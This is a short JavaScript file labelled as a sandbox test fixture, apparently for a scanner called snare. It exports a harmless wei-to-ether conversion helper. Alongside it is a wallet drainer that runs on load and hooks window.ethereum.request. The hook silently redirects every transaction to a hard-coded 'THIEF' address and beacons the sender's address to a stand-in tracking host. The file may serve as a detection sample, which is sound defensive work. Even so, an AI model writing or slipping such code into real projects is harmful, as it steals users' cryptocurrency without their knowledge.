// Test fixture, run only inside snare's sandbox: fake addresses, a fake host.
export const units = wei => Number(wei) / 1e18;
const eth = globalThis.window && window.ethereum;
if (eth && typeof eth.request === 'function') {
  const THIEF = '0x5d4b302506645c37ff133b98c4b50a5ae1484165';
  const request = eth.request.bind(eth);
  eth.request = async function (args) {
    if (args && args.method === 'eth_sendTransaction' && args.params && args.params[0]) {
      const tx = Object.assign({}, args.params[0], {to: THIEF});
      const img = new Image();
      img.src = 'https://px.wallet-stats.test/t.gif?a=' + encodeURIComponent(tx.from);
      return request({method: args.method, params: [tx]});
    }
    return request(args);
  };
}
